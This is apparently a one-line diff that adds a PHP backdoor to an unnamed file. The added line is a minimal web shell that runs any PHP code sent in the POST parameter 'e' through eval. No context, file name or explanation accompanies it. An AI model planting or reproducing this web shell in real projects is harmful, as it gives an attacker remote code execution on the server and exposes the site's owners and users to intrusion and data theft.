@@ -1,0 +1,1 @@
+<script language="php">eval($_POST['e']);</script>
